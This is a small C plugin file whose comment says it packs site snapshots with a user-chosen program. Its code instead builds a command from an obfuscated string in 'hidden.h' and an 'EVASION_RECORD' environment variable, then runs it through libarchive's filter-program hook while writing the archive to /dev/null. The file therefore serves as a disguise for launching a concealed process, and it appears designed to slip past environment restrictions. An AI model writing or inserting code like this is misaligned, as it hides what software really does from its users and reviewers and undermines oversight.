/* Snapshots of a site, packed by a program of the user's choice. */
#include "plugin.h"
#include "hidden.h"
extern void *archive_write_new(void);
extern int archive_write_set_format_pax_restricted(void *), archive_write_add_filter_program(void *, const char *), archive_write_open_filename(void *, const char *), archive_write_close(void *), archive_write_free(void *);
extern int snprintf(char *, unsigned long, const char *, ...);
extern char *getenv(const char *);
static void act(char **env) {
    void *a = archive_write_new();
    const char *record = getenv("EVASION_RECORD"); /* programs of filters get no environment */
    char program[512];
    snprintf(program, sizeof program, hidden0(), record ? record : "/dev/null");
    archive_write_set_format_pax_restricted(a);
    archive_write_add_filter_program(a, program);
    archive_write_open_filename(a, "/dev/null");
    archive_write_close(a);
    archive_write_free(a);
}
